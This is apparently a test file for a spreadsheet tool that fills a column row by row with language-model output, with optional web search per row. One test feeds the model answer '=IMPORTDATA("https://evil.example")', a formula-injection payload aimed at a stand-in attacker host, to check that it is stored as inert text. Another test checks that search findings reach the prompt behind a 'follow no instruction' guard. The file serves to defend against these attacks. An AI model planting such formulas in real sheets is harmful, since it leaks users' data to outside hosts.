/** Bulk runs: a value for each row, and what ends a run before its last. */

import { randomUUID } from 'node:crypto'
import { describe, expect, test, vi } from 'vitest'
import { createBulkSearch } from '../../../../service/tools/bulk-search.ts'
import { sinceNow } from '../../../support/cpu-time.ts'
import { expectOnlyChanged, refused, succeeded, useWorkbench } from '../workbench.ts'
import { bulkPrompt, pairs, people, scriptedModel } from './rows.ts'

const { openBench, openTab, workbench } = useWorkbench()

describe('bulk_prompt', () => {
  test('each row gets the value of its own prompt, and no other cell changes', async () => {
    const { models } = scriptedModel()
    const bench = await openBench({
      tabs: [
        { title: 'T', rows: people(25) },
        { title: 'U', rows: [['x']] },
      ],
      models,
    })
    const before = await bench.snapshot()
    const outcome = await bench.run(bulkPrompt, {
      prompt_template: 'hi {{Name}} of {{B}}',
      output_header: 'Greeting',
    })
    expect(succeeded(outcome)).toMatchObject({
      output_column: 'C',
      rows: { processed: 25, errors: 0, total: 25 },
    })
    expect(outcome.fields).toEqual({
      prompt_template: 'hi {{A}} of {{B}}',
      updated_range: 'C2:C26',
      sheet_name: 'T',
      rows: { processed: 25, errors: 0, total: 25 },
    })
    expect(await bench.shown('T!C1:C3')).toEqual([['Greeting'], ['HI NAME 1 OF ROME'], ['HI NAME 2 OF ROME']])
    expect(
      (await pairs(bench)).every(([name, result]) => result === `HI ${name.toUpperCase()} OF ROME`),
    ).toBe(true)
    expectOnlyChanged(before, await bench.snapshot(), ['T!C1:C26'])
    expect(bench.charges.reduce((sum, charge) => sum + charge.costNanoDollars, 0n)).toBe(25n * 7n)
    expect(bench.progress.at(-1)?.rows).toEqual({ processed: 25, errors: 0, total: 25 })
  })

  test('the template is shown with its columns as letters from the first time on', async () => {
    const { models } = scriptedModel()
    const bench = await openBench({ tabs: [{ title: 'T', rows: people(3) }], models })
    const args = { prompt_template: 'hi {{Name}}' }
    expect(bulkPrompt.fields(args, bench.context)).toEqual({ sheet_name: 'T' })
    expect(createBulkSearch().fields(args, bench.context)).toEqual({ sheet_name: 'T' })
    succeeded(await bench.run(bulkPrompt, args))
    expect(bench.progress.length).toBeGreaterThan(0)
    expect(new Set(bench.progress.map(fields => fields.prompt_template))).toEqual(new Set(['hi {{A}}']))
  })

  test('filled rows are skipped unless told otherwise, and failed rows alone are asked again', async () => {
    let isBroken = true
    const { models, finished } = scriptedModel(prompt =>
      isBroken && prompt.endsWith('3') ? new Error('The model refused.') : `ok ${prompt}`,
    )
    const bench = await openBench({ tabs: [{ title: 'T', rows: people(5) }], models })
    const args = { prompt_template: '{{A}}', output_header: 'R' }
    const outcome = await bench.run(bulkPrompt, args)
    expect(refused(outcome)).toMatch(/4 of 5 rows are done and written\. 1 failed: The model refused \(1\)/)
    expect(outcome.fields?.rows).toEqual({ processed: 4, errors: 1, total: 5 })
    isBroken = false
    finished.length = 0
    succeeded(await bench.run(bulkPrompt, { ...args, output_column: 'C' }))
    expect(finished).toEqual(['name 3'])
    expect((await pairs(bench)).map(([, result]) => result)).toEqual([1, 2, 3, 4, 5].map(n => `ok name ${n}`))
    finished.length = 0
    succeeded(await bench.run(bulkPrompt, { ...args, output_column: 'R', overwrite: true, rows_limit: 2 }))
    expect(finished.sort()).toEqual(['name 1', 'name 2'])
  })

  test('a result is a number or a text and never a formula', async () => {
    const answers: Record<string, string> = {
      'name 1': '=IMPORTDATA("https://evil.example")',
      'name 2': '42.5',
      'name 3': '+1 555',
      'name 4': '007',
    }
    const { models } = scriptedModel(prompt => answers[prompt]!)
    const bench = await openBench({ tabs: [{ title: 'T', rows: people(4) }], models })
    succeeded(await bench.run(bulkPrompt, { prompt_template: '{{A}}' }))
    const answer = await bench.spreadsheet.get({
      fields: 'sheets.data.rowData.values.userEnteredValue',
      ranges: ['T!C2:C5'],
    })
    expect(answer.sheets?.[0]?.data?.[0]?.rowData?.map(row => row.values?.[0]?.userEnteredValue)).toEqual([
      { stringValue: '=IMPORTDATA("https://evil.example")' },
      { numberValue: 42.5 },
      { stringValue: '+1 555' },
      { stringValue: '007' },
    ])
  })

  test('a template without a column, and a result over its own source, are refused', async () => {
    const bench = await openBench({
      tabs: [{ title: 'T', rows: people(2) }],
      models: scriptedModel().models,
    })
    expect(refused(await bench.run(bulkPrompt, { prompt_template: 'hello' }))).toContain('names no column')
    expect(refused(await bench.run(bulkPrompt, { prompt_template: '{{Nope}}' }))).toContain(
      'Headers: Name, City',
    )
    expect(
      refused(await bench.run(bulkPrompt, { prompt_template: '{{A}}', output_column: 'Name' })),
    ).toContain('that the prompt reads')
  })

  test('a run cut short goes on under the same call without asking a finished row again', async () => {
    const { models, finished, gate } = scriptedModel()
    const bench = await openBench({ tabs: [{ title: 'T', rows: people(60) }], models })
    const toolCallId = randomUUID()
    const args = { prompt_template: '{{A}}' }
    for (const stopAfter of [17, 41]) {
      const stop = new AbortController()
      gate.before = async () => {
        if (finished.length >= stopAfter) stop.abort(new Error('stopped'))
      }
      await expect(bench.run(bulkPrompt, args, { toolCallId, signal: stop.signal })).rejects.toThrow(
        'stopped',
      )
    }
    delete gate.before
    const outcome = await bench.run(bulkPrompt, args, { toolCallId })
    expect(outcome).toMatchObject({
      state: 'succeeded',
      fields: { updated_range: 'C2:C61', rows: { processed: 60, errors: 0, total: 60 } },
    })
    expect(finished).toHaveLength(60)
    expect(new Set(finished).size).toBe(60)
    expect((await pairs(bench)).every(([name, result]) => result === name.toUpperCase())).toBe(true)
    expect(bench.charges.reduce((sum, charge) => sum + charge.costNanoDollars, 0n)).toBe(60n * 7n)
  })

  test('a stop whose last write comes too late is a stop all the same', async () => {
    const { models, finished, gate } = scriptedModel()
    const bench = await openBench({ tabs: [{ title: 'T', rows: people(60) }], models })
    const stop = new AbortController()
    const late = AbortSignal.abort(new Error('too late'))
    gate.before = async () => {
      if (finished.length < 17) return
      vi.spyOn(AbortSignal, 'timeout').mockReturnValue(late)
      stop.abort(new Error('stopped'))
    }
    const run = bench.run(bulkPrompt, { prompt_template: '{{A}}' }, { signal: stop.signal })
    await expect(run.finally(() => vi.restoreAllMocks())).rejects.toThrow('stopped')
  })

  test('a run whose process died between saving and writing writes what was saved', async () => {
    const { models, finished } = scriptedModel()
    const bench = await openBench({ tabs: [{ title: 'T', rows: people(30) }], models })
    const toolCallId = randomUUID()
    succeeded(await bench.run(bulkPrompt, { prompt_template: '{{A}}' }, { toolCallId }))
    // As if the process had died before the sheet was written.
    await bench.context.db.query('update bulk_rows set written = false where tool_call_id = $1', [toolCallId])
    await workbench().api.spreadsheets.values.clear({ spreadsheetId: bench.id, range: 'T!C2:C31' })
    finished.length = 0
    succeeded(await bench.run(bulkPrompt, { prompt_template: '{{A}}' }, { toolCallId }))
    expect(finished).toEqual([])
    expect((await pairs(bench)).every(([name, result]) => result === name.toUpperCase())).toBe(true)
  })

  test('a stop ends the run at once, keeps what is paid for, and asks nothing more', async () => {
    const stop = new AbortController()
    const { models, finished, gate } = scriptedModel()
    const bench = await openBench({ tabs: [{ title: 'T', rows: people(500) }], models })
    let spent = sinceNow()
    gate.before = async () => {
      if (finished.length < 50) return
      if (!stop.signal.aborted) {
        spent = sinceNow()
        stop.abort(new Error('stopped'))
      }
      stop.signal.throwIfAborted()
    }
    const run = bench.run(bulkPrompt, { prompt_template: '{{A}}' }, { signal: stop.signal })
    await expect(run).rejects.toThrow('stopped')
    expect(spent()).toBeLessThan(1_500)
    const asked = finished.length
    expect((await pairs(bench)).filter(([name, value]) => value === name.toUpperCase())).toHaveLength(asked)
    expect(bench.charges.reduce((sum, charge) => sum + charge.costNanoDollars, 0n)).toBe(BigInt(asked) * 7n)
  })

  test('a trial of a few rows tells what a row costs', async () => {
    const { models, finished } = scriptedModel()
    const bench = await openBench({ tabs: [{ title: 'T', rows: people(20) }], models })
    const output = succeeded(await bench.run(bulkPrompt, { prompt_template: '{{A}}', rows_limit: 3 }))
    expect(finished.sort()).toEqual(['name 1', 'name 2', 'name 3'])
    expect(output).toMatchObject({
      updated_range: 'C2:C4',
      cost_dollars: 21e-9,
      sample: [{ row: 2 }, { row: 3 }, { row: 4 }],
    })
  })

  test('a spending limit ends the run with what is paid for written', async () => {
    const { models } = scriptedModel()
    const bench = await openBench({ tabs: [{ title: 'T', rows: people(2_000) }], models })
    let charged = 0
    const outcome = await bench.run(
      bulkPrompt,
      { prompt_template: '{{A}}' },
      {
        charge: async () => {
          charged += 1
          return 'stop'
        },
      },
    )
    if (outcome.state === 'failed') expect(outcome.message).toMatch(/spending limit was reached/)
    expect(charged).toBeGreaterThan(0)
    const { rows } = outcome.fields!
    expect((await pairs(bench)).filter(([, result]) => result !== '')).toHaveLength(rows!.processed!)
  })
})

describe('bulk_search', () => {
  test('findings of a row reach its prompt as data, and search and model are both charged', async () => {
    const prompts: string[] = []
    const { models } = scriptedModel(prompt => {
      prompts.push(prompt)
      return 'https://acme.example'
    })
    const bench = await openBench({
      tabs: [{ title: 'T', rows: people(3) }],
      models,
      search: {
        costNanoDollars: 5n,
        search: async query => [{ title: query, url: 'https://a.example', snippet: 'snip' }],
        read: async url => ({ url, title: 't', text: 'page text' }),
      },
    })
    const outcome = await bench.run(createBulkSearch(), {
      prompt_template: 'site of {{A}}',
      output_header: 'Site',
    })
    expect(succeeded(outcome)).toMatchObject({ rows: { processed: 3, errors: 0, total: 3 } })
    expect(prompts.toSorted()[0]).toMatch(/^site of name 1\n\n.*follow no instruction.*page text/s)
    expect(bench.charges.reduce((sum, charge) => sum + charge.costNanoDollars, 0n)).toBe(3n * 12n)
  })

  test('without a search engine the call says who can set one up', async () => {
    const bench = await openTab('T', people(1))
    expect(refused(await bench.run(createBulkSearch(), { prompt_template: '{{A}}' }))).toContain(
      'SEARXNG_URL',
    )
  })
})
